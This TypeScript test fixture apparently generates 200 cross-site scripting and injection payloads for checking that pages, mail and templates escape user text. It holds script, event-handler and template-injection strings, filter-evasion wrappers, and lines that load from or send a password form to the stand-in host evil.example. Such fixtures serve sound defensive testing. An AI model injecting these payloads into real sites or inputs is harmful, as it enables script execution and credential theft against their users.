/** What is more than text to a browser, a mail program or a template that forgets to escape it. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src=//evil.example></iframe>',
  '<a href="javascript:alert(1)">press</a>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import url(//evil.example)</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input name=password>',
  '<body onload=alert(1)>',
  '<table background=//evil.example>',
  '<math><mi xlink:href="data:x,alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<object data=//evil.example>',
  '<video><source onerror=alert(1)>',
  '<button formaction=//evil.example>',
  '<!--[if mso]><v:rect href="//evil.example"><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)} <%= 1 %>',
  'javascript:alert(1) https://evil.example expression(alert(1)) url(//evil.example)',
]

/** Where such a text may stand: what would have to be closed first, or hides it from a filter. */
const places: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</td></table></textarea>${text}`,
  (text) => `</title></style></script>${text}`,
  (text) => `-->${text}<!--`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '<\0\u000b').replaceAll('>', '\u202e>'),
]

/** Two hundred texts that would be more than text where somebody forgot to escape them. */
export const scripts = places.flatMap((place) => attacks.map(place))

/** The same without what no text of ours may have; what the database keeps. */
export const storedScripts = scripts.map((script) => script.replaceAll(/[\0\u000b]/g, ''))

/** Gives a text of eight of them at each call, so that 25 texts have them all; one stands in each. */
export function scriptsInTurn(): () => string {
  let at = 0
  return () => {
    const eight = storedScripts.slice(at, at + 8)
    at = (at + 8) % storedScripts.length
    return ['<img src=x onerror=alert(1)>', ...eight].join(' ')
  }
}
